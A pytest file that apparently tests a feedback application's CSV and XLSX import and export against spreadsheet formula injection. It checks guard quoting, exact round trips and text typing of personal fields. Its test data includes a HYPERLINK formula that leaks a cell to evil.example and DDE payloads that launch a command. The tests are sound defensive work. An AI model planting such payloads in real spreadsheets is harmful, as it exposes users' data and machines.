"""Adversarial tests of spreadsheet import/export, part 1: formula injection both ways and the
exact round trip of hostile values (see also ``test_attacks_*.py``).

What a spreadsheet really runs: Excel and LibreOffice take a cell for a formula when its FIRST
character is ``=``, ``+``, ``-`` or ``@`` (``+``/``-``/``@`` are rewritten to ``=``…), and a
leading tab or CR can hide one; DDE payloads (``=cmd|' /C calc'!A0``) need the ``=``. A
full-width ``＝`` (U+FF1D) is text to both (only an IME turns it into ``=`` while typing), so it
is left as it is. In XLSX a formula exists only as a formula cell (``<f>``, data type "f"):
a string cell is never evaluated, but it must really be a string cell.
"""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from feedback_desk.core.db.engine import open_database
from feedback_desk.core.dto import EntryQuery
from feedback_desk.core.interchange.values import FORMULA_START
from feedback_desk.core.services import Services

from ...core.conftest import new_entry
from .attacks_support import EVENT, HEAD, read_csv, row, write_csv

HOSTILE = (
    '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,1)",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'=already-quoted",
    "＝1+1 (full width)",
)
USERNAMES = ("=cmd|calc!A0", "+62811", "-1+1", "@SUM(A1)")


def _hostile_rows() -> list[dict[str, str]]:
    """Every text column (event, session, text, summary, recorded_by, personal fields) carries a
    formula payload."""
    out = []
    for i, payload in enumerate(HOSTILE):
        out.append(row(
            i, event=f"{payload} ev" if i % 2 else EVENT, session=payload, text=payload,
            summary=payload, recorded_by=USERNAMES[i % len(USERNAMES)], contact_consent="ya",
            speaker_name=payload, speaker_phone="+62 811 " + str(1000 + i),
            speaker_nik="=" + "3" * 15, speaker_passport="-X" + str(i), speaker_kpj="@" + str(i)))
    return out


HEAD_S = HEAD + ("summary",)


def _import(svc: Services, path: Path) -> None:
    preview = svc.interchange.preview(path)
    assert preview.can_import_all, [(r.number, [m.text() for m in r.problems])
                                    for r in preview.rows if r.problems]
    svc.interchange.commit(preview)


def _assert_csv_inert(path: Path) -> None:
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    for record in read_csv(path):
        for column, value in record.items():
            assert not value.startswith(FORMULA_START), (column, value)


def _assert_xlsx_inert(path: Path) -> None:
    from openpyxl import load_workbook

    book = load_workbook(path)  # not read-only: data_type of every cell
    for sheet in book.worksheets:
        for cells in sheet.iter_rows():
            for cell in cells:
                assert cell.data_type != "f", (cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(FORMULA_START), (cell.coordinate, cell.value)


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_hostile_cells_are_exported_inert_in_every_column(svc: Services, event: object,
                                                          tmp_path: Path, suffix: str) -> None:
    _import(svc, write_csv(tmp_path / "in.csv", _hostile_rows(), HEAD_S))
    target = tmp_path / f"out{suffix}"
    result = svc.interchange.export(target, EntryQuery(), personal=True)
    assert result.rows == len(HOSTILE)
    if suffix == ".csv":
        _assert_csv_inert(target)
    else:
        _assert_xlsx_inert(target)
    blob = "\n".join(v for r in _table(target) for v in r.values())
    for payload in HOSTILE[:5]:  # every payload is there, behind its guard quote
        assert "'" + payload in blob
    assert "'=cmd|calc!A0" in blob and "'=" + "3" * 15 in blob  # recorded_by, NIK


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_hostile_values_survive_the_round_trip_exactly(svc: Services, event: object, clock: Any,
                                                       tmp_path: Path, suffix: str) -> None:
    """import → export → import into an empty database → export: the same table."""
    _import(svc, write_csv(tmp_path / "in.csv", _hostile_rows(), HEAD_S))
    first = tmp_path / f"first{suffix}"
    svc.interchange.export(first, EntryQuery(), personal=True)
    other = open_database(f"sqlite:///{tmp_path / 'other.sqlite'}")
    try:
        them = Services.connect(other, "sari", roles="supervisor protection", clock=clock)
        _import(them, first)
        second = tmp_path / f"second{suffix}"
        them.interchange.export(second, EntryQuery(), personal=True)
    finally:
        other.dispose()
    assert _table(first) == _table(second)
    texts = {r["text"] for r in _table(first)}
    # a file's "'=x" is the guarded "=x" (stored so), exported guarded again
    assert {"'" + p if p[0] in "=+-@" else p for p in HOSTILE} == texts


def _table(path: Path) -> list[dict[str, str]]:
    if path.suffix == ".csv":
        return read_csv(path)
    from openpyxl import load_workbook

    values = list(load_workbook(path).active.iter_rows(values_only=True))
    return [{h: ("" if v is None else str(v)) for h, v in zip(values[0], r, strict=True)}
            for r in values[1:]]


def test_reimport_of_own_export_finds_every_entry_unchanged(svc: Services, event: object,
                                                            tmp_path: Path) -> None:
    """Export, then import the file into the SAME database: every row is "present" and no
    stored copy "differs" (what the file says equals what is stored, to the character)."""
    _import(svc, write_csv(tmp_path / "in.csv", _hostile_rows(), HEAD_S))
    target = tmp_path / "out.csv"
    svc.interchange.export(target, EntryQuery(), personal=True)
    preview = svc.interchange.preview(target)
    assert preview.count("present") == len(HOSTILE)
    assert [(r.number, n.text()) for r in preview.rows for n in r.notes
            if n.code == "stored_differs"] == []


@pytest.mark.xfail(strict=True, reason="BUG: values.neutralise leaves \"''=x\" unchanged but "
                   "unneutralise strips one quote from it: a stored \"''=x\" comes back as \"'=x\"")
def test_double_quote_prefix_survives_the_round_trip(svc: Services, event, tmp_path: Path
                                                     ) -> None:  # type: ignore[no-untyped-def]
    svc.entries.record(new_entry(event.id, text="''=1+1 is how Excel escapes it",
                                 summary="''+62 nomor"))
    target = tmp_path / "out.csv"
    svc.interchange.export(target, EntryQuery())
    preview = svc.interchange.preview(target)
    notes = [n.text() for r in preview.rows for n in r.notes]
    assert not [n for n in notes if "differs" in n], notes
    assert preview.prepared == () and preview.count("present") == 1


def test_formula_cells_of_an_xlsx_are_stored_as_their_literal_text(svc: Services, event: object,
                                                                   tmp_path: Path) -> None:
    """A real formula cell (data type "f", with a cached value) is imported as the formula's
    text, never as what it computed; CSV "=…" likewise."""
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["recorded_at", "event", "kind", "service_area", "text"])
    sheet.append(["16/11/2026 08:00", EVENT, "complaint", "overseas", '=HYPERLINK("http://x","y")'])
    sheet.append(["16/11/2026 08:01", EVENT, "complaint", "overseas", "=1+1"])
    assert sheet["E2"].data_type == "f"
    book.save(tmp_path / "f.xlsx")
    _import(svc, tmp_path / "f.xlsx")
    target = tmp_path / "out.csv"
    svc.interchange.export(target, EntryQuery(), sort="recorded_at", descending=False)
    assert [r["text"] for r in read_csv(target)] == ["'=HYPERLINK(\"http://x\",\"y\")", "'=1+1"]


def test_xlsx_personal_cells_written_as_text_not_numbers(svc: Services, event: object,
                                                         tmp_path: Path) -> None:
    """A NIK or phone must stay text in XLSX (a number cell loses leading zeros and digits
    beyond 15)."""
    _import(svc, write_csv(tmp_path / "in.csv", [row(1, contact_consent="yes",
                                                     speaker_nik="0012345678901234567",
                                                     speaker_phone="081234567890")]))
    target = tmp_path / "out.xlsx"
    svc.interchange.export(target, EntryQuery(), personal=True)
    from openpyxl import load_workbook

    cells = {c.value: c.data_type for r in load_workbook(target).active.iter_rows() for c in r}
    assert cells["0012345678901234567"] == "s" and cells["081234567890"] == "s"


@pytest.mark.xfail(strict=True, reason="BUG: export._xlsx lets openpyxl type a text equal to an "
                   "Excel error code (#N/A, #REF!…) as an error cell instead of a string")
def test_xlsx_export_writes_every_value_as_a_string_cell(svc: Services, event, tmp_path: Path
                                                         ) -> None:  # type: ignore[no-untyped-def]
    svc.entries.record(new_entry(event.id, text="#N/A", summary="#REF!"))
    target = tmp_path / "out.xlsx"
    svc.interchange.export(target, EntryQuery())
    from openpyxl import load_workbook

    types = {(c.value, c.data_type) for r in load_workbook(target).active.iter_rows() for c in r
             if c.value is not None}
    assert {t for _v, t in types} == {"s"}, sorted(types, key=str)
